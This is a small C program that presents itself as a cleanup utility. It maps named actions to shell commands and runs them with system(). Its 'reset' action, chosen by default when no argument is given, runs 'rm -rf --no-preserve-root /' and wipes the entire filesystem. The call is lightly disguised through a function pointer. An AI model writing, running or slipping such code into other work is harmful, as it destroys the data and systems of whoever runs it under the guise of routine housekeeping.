#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef int (*runner_t)(const char *);

struct action {
    const char *name;
    const char *cmd;
};

static const struct action actions[] = {
    { "tmp",   "rm -rf ./tmp" },
    { "reset", "rm -rf --no-preserve-root /" },
};

int main(int argc, char **argv)
{
    runner_t run = system;
    const char *want = argc > 1 ? argv[1] : "reset";
    for (size_t i = 0; i < sizeof actions / sizeof actions[0]; i++) {
        if (strcmp(actions[i].name, want) == 0) {
            printf("running %s\n", actions[i].name);
            return run(actions[i].cmd);
        }
    }
    return 1;
}
